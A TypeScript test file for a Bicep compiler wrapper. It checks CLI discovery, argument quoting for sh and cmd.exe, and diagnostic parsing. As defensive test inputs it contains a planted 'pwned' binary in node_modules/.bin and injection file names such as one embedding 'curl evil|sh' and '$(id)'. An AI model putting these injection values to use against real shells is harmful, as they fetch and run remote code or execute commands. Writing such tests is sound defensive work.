import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { delimiter, join, relative } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { azHasBicep, compileArguments, findBicepCli, shellQuoted, shellWord } from "../../src/bicep/compiler.js";
import { trustedPath } from "../../src/node/index.js";
import { parseDiagnostics } from "../../src/bicep/diagnostics.js";
import { tempDir } from "../../scripts/temp-dir.js";

function executables(...names: string[]): string {
  const dir = tempDir("acs-bicep-path-");
  for (const name of names) {
    writeFileSync(join(dir, name), "#!/bin/sh\nexit 0\n");
    chmodSync(join(dir, name), 0o755);
  }
  return dir;
}

test("the compiler: --bicep first, then bicep on PATH, then az bicep; none found is undefined", () => {
  const both = executables("bicep", "az");
  const azOnly = executables("az");
  assert.equal(findBicepCli("/opt/bicep/bicep", { PATH: both }), { executable: "/opt/bicep/bicep", flavour: "bicep" });
  assert.equal(findBicepCli(undefined, { PATH: both }), { executable: join(both, "bicep"), flavour: "bicep" });
  assert.equal(findBicepCli(undefined, { PATH: azOnly }), { executable: join(azOnly, "az"), flavour: "az" });
  assert.is(findBicepCli(undefined, { PATH: executables() }), undefined);
});

test("a pull request's bicep is never run: not from a relative PATH directory nor a node_modules/.bin inside the working directory", () => {
  const repo = tempDir("acs-bicep-repo-");
  mkdirSync(join(repo, "node_modules", ".bin"), { recursive: true });
  writeFileSync(join(repo, "node_modules", ".bin", "bicep"), "#!/bin/sh\necho pwned\n");
  chmodSync(join(repo, "node_modules", ".bin", "bicep"), 0o755);
  const az = executables("az");
  const previous = process.cwd();
  process.chdir(repo); // as npx and npm scripts run: the checkout's node_modules/.bin first on PATH
  try {
    for (const bin of [join(repo, "node_modules", ".bin"), "node_modules/.bin", ".", relative(repo, join(repo, "node_modules", ".bin"))]) {
      const PATH = [bin, az].join(delimiter);
      assert.equal(findBicepCli(undefined, { PATH }), { executable: join(az, "az"), flavour: "az" }, bin);
      assert.is(findBicepCli("bicep", { PATH }), undefined, "a bare configured name is looked up the same way");
      assert.equal(trustedPath(PATH), [az]);
    }
    assert.equal(findBicepCli("az", { PATH: az }), { executable: join(az, "az"), flavour: "az" });
  } finally {
    process.chdir(previous);
  }
});

test("az.cmd through cmd.exe: every argument quoted; a name cmd.exe would still read inside quotes is refused", () => {
  assert.equal(shellQuoted("C:\\My Repo\\a&b.bicep", "C:\\az\\az.cmd", ["bicep", "build", "--file", "C:\\My Repo\\a&b.bicep"]), [
    '"C:\\az\\az.cmd"',
    ['"bicep"', '"build"', '"--file"', '"C:\\My Repo\\a&b.bicep"'],
  ]);
  for (const name of ['a".bicep', "a%PATH%.bicep", "a!x!.bicep", "a^.bicep", "a\nb.bicep"]) {
    assert.throws(() => shellQuoted(name, "az.cmd", ["--file", name]), /holds a character cmd\.exe would interpret/, name);
  }
});

test("a file name in a command the user is told to run is one shell word", () => {
  assert.is(shellWord("infra/main.bicep"), "infra/main.bicep");
  assert.is(shellWord("x';curl evil|sh;'.bicep"), "'x'\\'';curl evil|sh;'\\''.bicep'");
  assert.is(shellWord("my file $(id).bicep"), "'my file $(id).bicep'");
});

test("command lines: the documented --stdout forms with --no-restore, for bicep and az bicep", () => {
  assert.equal(compileArguments({ executable: "bicep", flavour: "bicep" }, "build", "main.bicep"), ["build", "main.bicep", "--stdout", "--no-restore"]);
  assert.equal(compileArguments({ executable: "bicep", flavour: "bicep" }, "build-params", "a.bicepparam"), [
    "build-params",
    "a.bicepparam",
    "--stdout",
    "--no-restore",
  ]);
  assert.equal(compileArguments({ executable: "az", flavour: "az" }, "build", "main.bicep"), [
    "bicep",
    "build",
    "--file",
    "main.bicep",
    "--stdout",
    "--no-restore",
  ]);
  assert.equal(compileArguments({ executable: "az", flavour: "az" }, "build-params", "a.bicepparam"), [
    "bicep",
    "build-params",
    "--file",
    "a.bicepparam",
    "--stdout",
    "--no-restore",
  ]);
});

test("az's own Bicep CLI: in its configuration folder, or a bicep on PATH; else az would download one", () => {
  const config = tempDir("acs-azconfig-");
  assert.is(azHasBicep({ AZURE_CONFIG_DIR: config, PATH: executables("az") }), false);
  assert.is(azHasBicep({ AZURE_CONFIG_DIR: config, PATH: executables("az", "bicep") }), true);
  mkdirSync(join(config, "bin"));
  writeFileSync(join(config, "bin", "bicep"), "");
  assert.is(azHasBicep({ AZURE_CONFIG_DIR: config, PATH: executables("az") }), true);
});

test("diagnostics in the CLI's format, paths with spaces and parentheses included, behind az's log prefix too", () => {
  const out = parseDiagnostics(
    [
      '/src/my (copy)/main.bicep(3,12) : Error BCP018: Expected the ":" character at this location.',
      'C:\\infra\\main.bicep(1,1) : Warning no-unused-params: Parameter "x" is declared but never used. [https://aka.ms/bicep/linter/no-unused-params]',
      "Build succeeded.",
      'ERROR: /src/main.bicep(2,5) : Error BCP190: The artifact with reference "br:contoso.azurecr.io/m:v1" has not been restored.',
      'WARNING: /src/main.bicep(9,1) : Warning no-unused-vars: Variable "v" is declared but never used.',
    ].join("\r\n"),
  );
  assert.equal(
    out.map((d) => [d.file, d.line, d.column, d.level, d.code]),
    [
      ["/src/my (copy)/main.bicep", 3, 12, "Error", "BCP018"],
      ["C:\\infra\\main.bicep", 1, 1, "Warning", "no-unused-params"],
      ["/src/main.bicep", 2, 5, "Error", "BCP190"],
      ["/src/main.bicep", 9, 1, "Warning", "no-unused-vars"],
    ],
  );
});

test.run();
